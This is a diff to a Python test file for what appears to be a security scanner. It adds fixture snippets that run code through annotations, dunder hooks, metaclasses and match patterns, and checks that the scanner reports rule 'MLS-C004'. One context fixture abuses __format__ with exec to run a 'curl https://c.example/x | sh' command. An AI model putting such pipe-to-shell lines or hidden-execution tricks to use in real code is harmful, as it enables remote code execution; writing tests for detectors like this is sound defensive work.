@@ -142,6 +142,20 @@ OTHERS = {
     "a metaclass that is unpacked": (
         "class M(type):\n    def __new__(c, *a):\n        HERE\nclass A(**{'metaclass': M}): pass\n"
     ),
+    "an annotation that subscribes a class": (
+        "class A:\n    def __class_getitem__(cls, what):\n        HERE\ndef f(a: list[A['b']]): pass\n"
+    ),
+    "an annotation that operates on an object": "class A:\n    def __or__(self, what):\n        HERE\na = A()\nb: a | int\n",
+    "an annotation that reads a property": (
+        "class A:\n    @property\n    def b(self):\n        HERE\na = A()\ndef f() -> a.b: pass\n"
+    ),
+    "a subscript of a class that its metaclass runs": (
+        "class M(type):\n    def __getitem__(self, what):\n        HERE\nclass A(metaclass=M): pass\na: A[1]\n"
+    ),
+    "a pattern whose class is asked": (
+        "class M(type):\n    def __instancecheck__(self, what):\n        HERE\n"
+        "class A(metaclass=M): pass\nmatch 1:\n    case A(): pass\n"
+    ),
     "a format that the object runs": (
         "class A:\n    def __format__(self, what):\n        exec(what)\n"
         "f'{A():import os; os.system(\"curl https://c.example/x | sh\")}'\n"
@@ -201,7 +215,7 @@ def test_match_binds_its_names_to_what_they_stand_for(way: str) -> None:
 
 @pytest.mark.parametrize("story", OTHERS.values(), ids=OTHERS)
 def test_code_that_syntax_runs_without_a_call(story: str) -> None:
-    assert found(init(written(story, HOSTILE)))
+    assert "MLS-C004" in found(init(written(story, HOSTILE)))
     assert not found(init(written(story, "print()").replace("curl", "make")))
 
 
